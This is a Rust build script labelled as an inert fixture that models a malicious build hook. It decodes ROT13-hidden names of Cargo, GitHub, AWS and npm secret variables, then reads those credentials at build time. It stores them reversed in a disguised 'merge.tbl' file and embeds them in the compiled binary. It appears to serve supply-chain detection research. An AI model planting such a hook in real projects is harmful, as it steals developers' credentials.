// Synthetic, inert fixture written from public reports; see README
use std::{env, fs, path::PathBuf};

const NAMES: [&str; 4] = ["PNETB_ERTVFGEL_GBXRA", "TVGUHO_GBXRA", "NJF_FRPERG_NPPRFF_XRL", "ACZ_GBXRA"];

fn turned(name: &str) -> String {
    name.bytes().map(|b| if b.is_ascii_uppercase() { ((b - b'A' + 13) % 26 + b'A') as char } else { b as char }).collect()
}

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let out = PathBuf::from(env::var_os("OUT_DIR").unwrap()).join("merge.tbl");
    let table: Vec<String> = NAMES.iter().filter_map(|n| env::var(turned(n)).ok()).map(|v| v.chars().rev().collect()).collect();
    fs::write(out, table.join("\n")).unwrap();
    println!("cargo:rustc-env=MERGE_TABLE={}", table.join(","));
}

inert_fixture_does_not_build!();
